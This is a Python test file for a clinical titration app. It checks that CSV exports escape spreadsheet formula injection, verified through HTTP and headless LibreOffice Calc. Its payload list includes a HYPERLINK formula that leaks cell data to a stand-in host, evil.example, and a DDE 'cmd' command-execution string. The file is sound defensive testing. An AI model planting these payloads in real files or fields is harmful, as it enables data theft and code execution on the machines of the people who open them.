"""No CSV the app writes holds a cell a spreadsheet would run, whatever the clinician typed.

Checked three ways: the cell rule itself, the CSVs over HTTP (the patient export and the access log), and
LibreOffice Calc, headless, opening the files as a clinician would, with ``,`` and with ``;`` (a
semicolon-locale spreadsheet) as the separator. The LibreOffice tests are skipped where ``soffice`` is not
installed; CI installs it (``.ci/run``).
"""

from __future__ import annotations

import contextlib
import csv
import datetime
import io
import os
import random
import shutil
import signal
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Iterable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from patients.csv_stream import csv_cell, csv_lines
from patients.roles import Role
from tests.conftest import client_for, make_user
from titration.models import CheckIn, DoseEntry

# Formula payloads, plain and hidden: behind whitespace, zero-width and format characters, a double quote,
# fullwidth and small forms, and behind a separator or line break inside the cell.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    '""=1+1',
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200c=1+1",
    "\u200d=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\u200b\u200d\ufeff =1+1",
    "\uff1d1+1",  # fullwidth =
    "\uff0b1+1",  # fullwidth +
    "\uff0d1+1",  # fullwidth -
    "\uff20SUM(1+1)",  # fullwidth @
    "\ufe661+1",  # small =
    "\u22121+1",  # minus sign
    "\uff02\uff1d1+1",  # fullwidth quote, fullwidth =
    "x;=1+1",
    "x,=1+1",
    "x; -1+1",
    'x";=1+1',
    '";=1+1',
    ";=1+1",
    'x" ;=1+1',
    'x",=1+1',
    "x\n=1+1",
    'x"\n=1+1',
    "x\r\n@SUM(1+1)",
    "x\t=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "@dr.lee",
]
SIGNS = set("=+-@\u2212")
HIDDEN_QUOTES = set('"\uff02\u201c\u201d\u201e')


def first_visible_is_a_sign(text: str) -> bool:
    """The test's own reading of "would a spreadsheet starting a cell here see a formula?"."""
    for char in text:
        if char.isspace() or char in HIDDEN_QUOTES or unicodedata.category(char) == "Cf":
            continue
        return unicodedata.normalize("NFKC", char)[0] in SIGNS
    return False


def pieces(text: str) -> list[str]:
    """The starts of cell a loose or other-separator reader may see inside one of our cells."""
    out = [text]
    for index, char in enumerate(text):
        if char in ",;\t\r\n":
            out.append(text[index + 1 :])
    return out


# The cell rule ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('"=1+1', "'\"=1+1"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        (" =1+1", "' =1+1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("x;=1+1", "x;'=1+1"),
        ("x, -1", "x,' -1"),
        ("said fine\n=1+1", "said fine\n'=1+1"),
        ('said "fine", then, later:\nnot fine', 'said "fine", then, later:\nnot fine'),
        ("Insomnia (severe); Nausea (mild)", "Insomnia (severe); Nausea (mild)"),
        ("dr.lee", "dr.lee"),
        ("2026-03-12T09:14:00+00:00", "2026-03-12T09:14:00+00:00"),
        ("", ""),
        (None, ""),
        (Decimal("1.50"), "1.5"),
        (Decimal("-1.5"), "-1.5"),
        (6, "6"),
        (-2, "-2"),
    ],
)
def test_a_cell_is_written_as_text_that_cannot_run_and_numbers_stay_numbers(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_hostile_payload_leaves_a_cell_start_with_a_formula_sign(payload):
    cell = csv_cell(payload)
    assert cell.replace("'", "") == payload.replace("'", "")  # only apostrophes are added
    assert not any(first_visible_is_a_sign(piece) for piece in pieces(cell)), cell
    assert csv_cell(cell) == cell  # neutralising twice changes nothing


def test_every_cell_is_quoted_and_reads_back_as_written():
    rows = [["x;=1+1", "a,b", Decimal("1.50"), 6, None], [*PAYLOADS]]
    text = "".join(csv_lines(rows))
    assert text.startswith('"x;\'=1+1","a,b","1.5","6",""\r\n')
    assert list(csv.reader(io.StringIO(text, newline=""))) == [[csv_cell(v) for v in row] for row in rows]


# Over HTTP ------------------------------------------------------------------------------------------------


def body_of(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.mark.django_db
def test_the_access_log_csv_neutralises_a_username_like_a_formula(clinic, patient):
    viewer = make_user("@nurse.kim", Role.STAFF, clinic)  # "@" is a legal character in a Django username
    assert client_for(viewer).get(reverse("titration:patient", args=[patient.pk])).status_code == 200
    admin = User.objects.create_superuser("admin", "admin@example.org", "an-admin-passphrase")
    rows = list(
        csv.reader(io.StringIO(body_of(client_for(admin).get(reverse("patients:access-csv", args=[patient.pk])))))
    )
    assert rows[0] == ["time_utc", "user", "action", "ip_address"]
    assert [row[1] for row in rows[1:]] == ["'@nurse.kim"]


@pytest.fixture
def hostile_record(clinic, patient, staff, today):
    """A record whose every free-text field, and the recording user's name, holds a formula payload."""
    author = make_user("@dr.hostile", Role.PRESCRIBER, clinic)
    author_client = client_for(author)
    for days_ago, payload in enumerate(PAYLOADS, start=1):
        day = today - datetime.timedelta(days=days_ago)
        post = {"taken_on": day.isoformat(), "dose_mg": "1.5", "formulation": "capsule", "status": "taken"}
        response = author_client.post(reverse("titration:dose-create", args=[patient.pk]), {**post, "notes": payload})
        assert response.status_code == 302, payload
    wrong = DoseEntry.objects.filter(patient=patient).order_by("taken_on").first()
    response = author_client.post(
        reverse("titration:dose-void", args=[patient.pk, wrong.pk]), {"reason": "=1+1;x,@SUM(A1)"}
    )
    assert response.status_code == 302
    checkin = {
        "checked_on": today.isoformat(),
        "pain_score": "6",
        "notes": '\u200b=HYPERLINK("http://evil.example");-1+1',
        "side_effect_other": "mild",
        "side_effect_other_description": "\uff1d1+1",
    }
    assert client_for(staff).post(reverse("titration:checkin-create", args=[patient.pk]), checkin).status_code == 302
    return patient


def stored_texts(patient) -> set[str]:
    """The hostile texts as the app stored them (the forms may have trimmed them), and who recorded them."""
    entries = DoseEntry.objects.filter(patient=patient)
    texts = {entry.notes for entry in entries} | {entry.void_reason for entry in entries if entry.void_reason}
    texts |= {checkin.notes for checkin in CheckIn.objects.filter(patient=patient)}
    texts |= {"@dr.hostile"}
    return texts


@pytest.mark.django_db
def test_the_patient_export_neutralises_every_hostile_field(staff_client, hostile_record):
    text = body_of(staff_client.get(reverse("titration:export", args=[hostile_record.pk])))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = {cell for row in rows for cell in row}
    for stored in stored_texts(hostile_record):
        assert csv_cell(stored) in cells, stored
    assert not [cell for cell in cells if any(first_visible_is_a_sign(p) for p in pieces(cell))]
    assert {row[2] for row in rows if row[1:2] == ["Dose"] and row[2]} == {"1.5"}  # Record, Dose (mg)


# LibreOffice Calc --------------------------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_calc = pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice Calc (soffice) is not installed: apt-get install libreoffice-calc-nogui (CI installs it)",
)
# CSV import filter options: separator (as a character code), text delimiter ("), UTF-8 (76), first line 1.
# Everything else is left at Calc's defaults, which evaluate formulas and read quoted numbers as numbers.
SEPARATORS = {"comma": "44,34,76,1", "semicolon": "59,34,76,1", "tab": "9,34,76,1"}
CALC_TIMEOUT = 120  # seconds, per conversion
NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
}


@dataclass(frozen=True)
class Cell:
    text: str
    value_type: str | None
    formula: str | None


def _paragraph_text(element: ET.Element) -> str:
    parts = [element.text or ""]
    for child in element:
        tag = child.tag.rsplit("}", 1)[-1]
        if tag == "s":
            parts.append(" " * int(child.get(f"{{{NS['text']}}}c", "1")))
        elif tag == "tab":
            parts.append("\t")
        elif tag == "line-break":
            parts.append("\n")
        else:
            parts.append(_paragraph_text(child))
        parts.append(child.tail or "")
    return "".join(parts)


def open_in_calc(csv_file: Path, separator: str, profile: Path) -> list[list[Cell]]:
    """Have LibreOffice Calc import ``csv_file`` as a spreadsheet and return its cells, as Calc saw them."""
    out_dir = csv_file.parent / f"calc-{separator}"
    command = [
        str(SOFFICE),
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        f"--infilter=CSV:{SEPARATORS[separator]}",
        "--convert-to",
        "fods",
        "--outdir",
        str(out_dir),
        str(csv_file),
    ]
    process = subprocess.Popen(  # noqa: S603 - LibreOffice with fixed arguments on our own file
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True
    )
    try:
        output, _ = process.communicate(timeout=CALC_TIMEOUT)
    finally:
        if process.poll() is None:  # timed out: stop LibreOffice and whatever it started
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait(10)
    result = out_dir / f"{csv_file.stem}.fods"
    assert result.exists(), f"LibreOffice did not convert the file:\n{output.decode(errors='replace')}"
    table, text, office = (f"{{{NS[key]}}}" for key in ("table", "text", "office"))
    sheet = []
    for row in ET.parse(result).getroot().iter(f"{table}table-row"):  # noqa: S314 - LibreOffice's own output
        sheet.append(
            [
                Cell(
                    "\n".join(_paragraph_text(p) for p in cell.findall(f"{text}p")),
                    cell.get(f"{office}value-type"),
                    cell.get(f"{table}formula"),
                )
                for cell in row.findall(f"{table}table-cell")
            ]
        )
    return sheet


@pytest.fixture(scope="module")
def calc_profile(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("calc-profile")


def formula_cells(sheet: Iterable[list[Cell]]) -> list[Cell]:
    return [cell for row in sheet for cell in row if cell.formula]


def as_calc_shows(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")  # Calc stores a carriage return as a line break


@needs_calc
@pytest.mark.django_db
def test_libreoffice_opens_the_patient_export_with_no_formula_cell(
    staff_client, hostile_record, tmp_path, calc_profile
):
    export = tmp_path / "export.csv"
    export.write_text(body_of(staff_client.get(reverse("titration:export", args=[hostile_record.pk]))), newline="")

    by_comma = open_in_calc(export, "comma", calc_profile)
    assert formula_cells(by_comma) == []
    strings = {cell.text for row in by_comma for cell in row if cell.value_type == "string"}
    for stored in stored_texts(hostile_record):
        assert as_calc_shows(csv_cell(stored)) in strings, stored  # arrived, as text
    doses = [row[2] for row in by_comma if len(row) > 2 and row[1].text == "Dose" and row[2].text]
    assert doses and all((cell.value_type, cell.text) == ("float", "1.5") for cell in doses)  # still numbers

    by_semicolon = open_in_calc(export, "semicolon", calc_profile)
    assert formula_cells(by_semicolon) == []
    assert not [c.text for row in by_semicolon for c in row if first_visible_is_a_sign(c.text)]


@needs_calc
@pytest.mark.django_db
def test_libreoffice_opens_the_de_identified_export_with_no_formula_cell_and_no_identifier(
    staff_client, hostile_record, tmp_path, calc_profile
):
    export = tmp_path / "deidentified.csv"
    response = staff_client.get(f"{reverse('titration:export', args=[hostile_record.pk])}?deidentified=1")
    export.write_text(body_of(response), newline="")
    for separator in ("comma", "semicolon"):
        sheet = open_in_calc(export, separator, calc_profile)
        assert formula_cells(sheet) == [], separator
        texts = " ".join(cell.text for row in sheet for cell in row)
        for identifier in (hostile_record.mrn, hostile_record.family_name, "1980", "@dr.hostile"):
            assert identifier not in texts, (separator, identifier)
    by_comma = open_in_calc(export, "comma", calc_profile)
    table = [row for row in by_comma if len(row) > 2 and row[1].text == "Dose"]
    assert table and all(row[0].value_type == "float" for row in table)  # day numbers, as numbers
    doses = [row[2] for row in table if row[2].text]
    assert doses and all((cell.value_type, cell.text) == ("float", "1.5") for cell in doses)


@needs_calc
def test_libreoffice_finds_no_formula_in_any_csv_the_writer_makes(tmp_path, calc_profile):
    """The payloads, then 2,000 rows of random text built from the characters that make formulas and break
    quoting, opened with each separator a clinician's spreadsheet may use."""
    rng = random.Random(20260312)
    alphabet = ['"', '"', ";", ",", "=", "+", "-", "@", " ", "\u200b", "'", "x", "1", "\t", "\r", "\n", "\uff1d"]
    alphabet += ['""', '";', '" ;', '",', "\r\n"]
    fuzz = [
        ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 10))) for _ in range(rng.randint(1, 4))]
        for _ in range(2000)
    ]
    rows = [[payload, Decimal("1.5"), 6] for payload in PAYLOADS] + fuzz
    path = tmp_path / "written.csv"
    path.write_text("".join(csv_lines(rows)), newline="")

    by_comma = open_in_calc(path, "comma", calc_profile)
    assert formula_cells(by_comma) == []
    for payload, row in zip(PAYLOADS, by_comma, strict=False):
        assert (row[0].value_type, row[0].text) == ("string", as_calc_shows(csv_cell(payload)))
        assert [(cell.value_type, cell.text) for cell in row[1:3]] == [("float", "1.5"), ("float", "6")]
    for separator in ("semicolon", "tab"):
        sheet = open_in_calc(path, separator, calc_profile)
        assert formula_cells(sheet) == [], separator
